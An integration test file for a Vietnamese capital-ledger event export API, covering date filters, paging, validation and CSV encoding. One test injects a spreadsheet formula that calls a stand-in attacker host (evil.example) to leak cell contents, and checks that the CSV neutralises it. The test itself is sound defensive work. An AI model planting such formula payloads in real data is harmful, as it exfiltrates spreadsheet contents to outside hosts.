using System.Globalization;
using System.Text;
using System.Text.Json;
using CapitalFlows.IntegrationTests.Infrastructure;
using CapitalFlows.Security;
using static CapitalFlows.IntegrationTests.Infrastructure.LedgerDriver;

namespace CapitalFlows.IntegrationTests;

/// <summary>
/// The event log export (<c>GET /api/events</c>) as analysts use it: a month of the log by effective date, the
/// events recorded between two instants, and the CSV a spreadsheet opens — flat columns, UTF-8 with a byte-order
/// mark, Vietnamese as it is, and no client text that a spreadsheet would evaluate as a formula.
/// </summary>
public sealed class EventExportTests(ServiceFixture service) : IntegrationTest(service)
{
    private const string PoorHouseholds = "poor-households";

    private static readonly string[] CsvColumns =
    [
        "sequence", "effectiveOn", "recordedAt", "type", "streamKey", "locality", "localityName", "source", "programme",
        "amountVnd", "loanId", "commandId", "correlationId", "userSub", "userName", "userRole", "data", "hash",
    ];

    private HttpClient Finance => Service.Client(Roles.CentralFinance);

    [Fact]
    public async Task A_months_export_holds_exactly_the_movements_effective_in_that_month_in_either_format_and_pages_with_after_and_limit()
    {
        var (january, first, allocation, last, march) = (Guid.NewGuid(), Guid.NewGuid(), Guid.NewGuid(), Guid.NewGuid(), Guid.NewGuid());
        (await Finance.EntrustCentralBudgetAsync(1_000, commandId: january, effectiveOn: "2025-01-31")).Expect(200);
        (await Finance.EntrustCentralBudgetAsync(1_000, commandId: first, effectiveOn: "2025-02-01")).Expect(200);
        (await Finance.AllocateAsync("VN", "01", 500, commandId: allocation, effectiveOn: "2025-02-14")).Expect(200);
        (await Finance.EntrustCentralBudgetAsync(1_000, commandId: last, effectiveOn: "2025-02-28")).Expect(200);
        (await Finance.EntrustCentralBudgetAsync(1_000, commandId: march, effectiveOn: "2025-03-01")).Expect(200);
        var february = new Dictionary<Guid, int> { [first] = 1, [allocation] = 2, [last] = 1 };
        const string month = "from=2025-02-01&to=2025-02-28";

        var lines = await NdjsonAsync($"/api/events?{month}");
        Assert.Equal(february, CountByCommand(lines.Select(l => l.GetProperty("commandId").GetString()!)));
        Assert.All(lines, l => Assert.StartsWith("2025-02-", l.GetProperty("effectiveOn").GetString(), StringComparison.Ordinal));

        var csv = await CsvAsync(Finance, $"/api/events?format=csv&{month}");
        Assert.Equal(february, CountByCommand(csv.Rows.Select(r => csv.Cell(r, "commandId"))));

        var head = await NdjsonAsync($"/api/events?{month}&limit=3");
        var rest = await NdjsonAsync($"/api/events?{month}&after={head[^1].GetProperty("sequence").GetInt64()}");
        Assert.Equal(3, head.Count);
        Assert.Equal(
            lines.Select(l => l.GetProperty("sequence").GetInt64()),
            head.Concat(rest).Select(l => l.GetProperty("sequence").GetInt64()));
    }

    [Fact]
    public async Task Recorded_from_and_to_select_the_events_recorded_between_two_instants_in_any_offset()
    {
        var (before, between, after) = (Guid.NewGuid(), Guid.NewGuid(), Guid.NewGuid());
        (await Finance.EntrustCentralBudgetAsync(1_000, commandId: before)).Expect(200);
        var start = DateTimeOffset.UtcNow;
        (await Finance.AllocateAsync("VN", "01", 500, commandId: between)).Expect(200);
        var end = DateTimeOffset.UtcNow;
        (await Finance.EntrustCentralBudgetAsync(1_000, commandId: after)).Expect(200);

        // The same instants written in Vietnam's offset and in UTC.
        var from = Uri.EscapeDataString(start.ToOffset(TimeSpan.FromHours(7)).ToString("yyyy-MM-dd'T'HH:mm:ss.fffffffzzz", CultureInfo.InvariantCulture));
        var to = Uri.EscapeDataString(end.ToUniversalTime().ToString("yyyy-MM-dd'T'HH:mm:ss.fffffff'Z'", CultureInfo.InvariantCulture));
        var lines = await NdjsonAsync($"/api/events?recordedFrom={from}&recordedTo={to}");

        Assert.Equal(new Dictionary<Guid, int> { [between] = 2 }, CountByCommand(lines.Select(l => l.GetProperty("commandId").GetString()!)));
        Assert.Empty(await NdjsonAsync($"/api/events?recordedFrom={from}&recordedTo={to}&from=2000-01-01&to=2000-12-31"));
    }

    [Theory]
    [InlineData("from=2025-2-01", "from")]
    [InlineData("to=2025-02-30", "to")]
    [InlineData("from=2025-03-01&to=2025-02-01", "to")]
    [InlineData("recordedFrom=2026-01-02", "recordedFrom")]
    [InlineData("recordedFrom=1/2/2026", "recordedFrom")]
    [InlineData("recordedTo=2026-01-02T00:00:00", "recordedTo")]
    [InlineData("recordedFrom=2026-01-03T00:00:00Z&recordedTo=2026-01-02T00:00:00%2B07:00", "recordedTo")]
    [InlineData("after=1e3", "after")]
    [InlineData("limit=%2B5", "limit")]
    public async Task A_malformed_filter_of_the_export_is_400_validation_naming_it(string query, string field)
    {
        foreach (var url in new[] { $"/api/events?{query}", $"/api/events?format=csv&{query}" })
        {
            var answer = await Finance.GetAnswerAsync(url);

            Assert.Equal(400, answer.Status);
            Assert.Equal("/problems/validation", answer.ProblemType);
            Assert.True(answer.Json.GetProperty("errors").TryGetProperty(field, out _), answer.ToString());
        }
    }

    [Fact]
    public async Task The_csv_is_utf8_with_a_byte_order_mark_flat_columns_names_as_of_the_effective_date_and_Vietnamese_as_it_is()
    {
        const string name = "Nguyễn Thị Hoà";
        using var finance = Service.Client(Roles.CentralFinance);
        finance.DefaultRequestHeaders.Authorization = new("Bearer", ServiceFixture.Token(Roles.CentralFinance, name: name));
        var (june, july) = (Guid.NewGuid(), Guid.NewGuid());
        (await finance.EntrustCentralBudgetAsync(1_000_000_000, effectiveOn: "2025-06-01")).Expect(200);
        (await finance.AllocateAsync("VN", "15", 300_000_000, toProgramme: PoorHouseholds, commandId: june, effectiveOn: "2025-06-01")).Expect(200);
        (await finance.AllocateAsync("VN", "15", 200_000_000, toProgramme: PoorHouseholds, commandId: july, effectiveOn: "2025-07-02")).Expect(200);
        var loanId = (await finance.DrawDownAsync("15", CentralBudget, PoorHouseholds, 50_000_000, effectiveOn: "2025-07-03")).LoanId();

        using var response = await Finance.GetAsync(new Uri("/api/events?format=csv", UriKind.Relative), TestContext.Current.CancellationToken);
        var bytes = await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType?.ToString());
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes, 3, bytes.Length - 3);
        Assert.DoesNotContain("\\u", text, StringComparison.Ordinal);
        var csv = CsvTable.Parse(text);
        Assert.Equal(CsvColumns, csv.Header);

        // Old 15 was Yên Bái until the 2025 reorganisation; from 1 July 2025 code 15 is Lào Cai.
        var received = Assert.Single(csv.Where("commandId", june.ToString()), r => csv.Cell(r, "type") == "AllocationReceived");
        Assert.Equal(
            ["2025-06-01", "AllocationReceived", "15/central-budget/poor-households", "15", await NameAsync("15", "2025-06-01"),
             CentralBudget, PoorHouseholds, "300000000", "", june.ToString(), "dev-central-finance", name, Roles.CentralFinance],
            Cells(csv, received, "effectiveOn", "type", "streamKey", "locality", "localityName", "source", "programme", "amountVnd", "loanId",
                "commandId", "userSub", "userName", "userRole"));
        Assert.Equal("Tỉnh Yên Bái", csv.Cell(received, "localityName"));
        var later = Assert.Single(csv.Where("commandId", july.ToString()), r => csv.Cell(r, "type") == "AllocationReceived");
        Assert.Equal("Tỉnh Lào Cai", csv.Cell(later, "localityName"));
        var allocated = Assert.Single(csv.Where("commandId", june.ToString()), r => csv.Cell(r, "type") == "CapitalAllocated");
        Assert.Equal(["VN", await NameAsync("VN", "2025-06-01"), General], Cells(csv, allocated, "locality", "localityName", "programme"));

        var drawdown = Assert.Single(csv.Where("type", "LoanDrawnDown"));
        Assert.Equal([loanId, "15", "Tỉnh Lào Cai", CentralBudget, PoorHouseholds, "50000000", loanId],
            Cells(csv, drawdown, "streamKey", "locality", "localityName", "source", "programme", "amountVnd", "loanId"));
        var entrustment = JsonDocument.Parse(csv.Cell(Assert.Single(csv.Where("type", "CentralBudgetEntrusted")), "data")).RootElement;
        Assert.Equal("QĐ-TTg entrustment", entrustment.GetProperty("decisionRef").GetString());
        Assert.Contains("""
            ""decisionRef"":""QĐ-TTg entrustment""
            """, text, StringComparison.Ordinal);
        Assert.All(csv.Rows, r => DateTimeOffset.Parse(csv.Cell(r, "recordedAt"), CultureInfo.InvariantCulture));
    }

    [Fact]
    public async Task Client_text_that_a_spreadsheet_would_evaluate_is_neutralised_in_the_csv_and_kept_as_sent_in_ndjson()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        using var finance = Service.Client(Roles.CentralFinance);
        finance.DefaultRequestHeaders.Authorization = new("Bearer", ServiceFixture.Token(Roles.CentralFinance, name: formula));
        // A correlation id can no longer begin as a formula (the service refuses one outside letters, digits and
        // . _ : / -, not starting with -); a user's name, from the token, still can.
        (await finance.EntrustCentralBudgetAsync(1_000)).Expect(200);
        using var other = Service.Client(Roles.CentralFinance);
        other.DefaultRequestHeaders.Authorization = new("Bearer", ServiceFixture.Token(Roles.CentralFinance, name: "@SUM(1+1)"));
        (await other.EntrustCentralBudgetAsync(1_000)).Expect(200);

        var csv = await CsvAsync(Finance, "/api/events?format=csv");
        var ndjson = await NdjsonAsync("/api/events");

        Assert.Single(csv.Where("userName", "'" + formula));
        Assert.Single(csv.Where("userName", "'@SUM(1+1)"));
        // No cell of the file, whoever wrote it, begins as a formula; the JSON lines keep what was sent.
        Assert.All(csv.Rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
        Assert.Contains(ndjson, l => l.GetProperty("user").GetProperty("name").GetString() == formula);
    }

    private async Task<List<JsonElement>> NdjsonAsync(string url)
    {
        var answer = (await Finance.GetAnswerAsync(url)).Expect(200);
        return answer.Body.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
    }

    private static async Task<CsvTable> CsvAsync(HttpClient client, string url) =>
        CsvTable.Parse((await client.GetAnswerAsync(url)).Expect(200).Body);

    private async Task<string> NameAsync(string code, string asOf) =>
        (await Finance.ReadJsonAsync($"/api/localities/{code}?asOf={asOf}")).GetProperty("name").GetString()!;

    private static string[] Cells(CsvTable csv, IReadOnlyList<string> row, params string[] columns) => columns.Select(c => csv.Cell(row, c)).ToArray();

    private static Dictionary<Guid, int> CountByCommand(IEnumerable<string> commandIds) =>
        commandIds.GroupBy(Guid.Parse).ToDictionary(g => g.Key, g => g.Count());
}
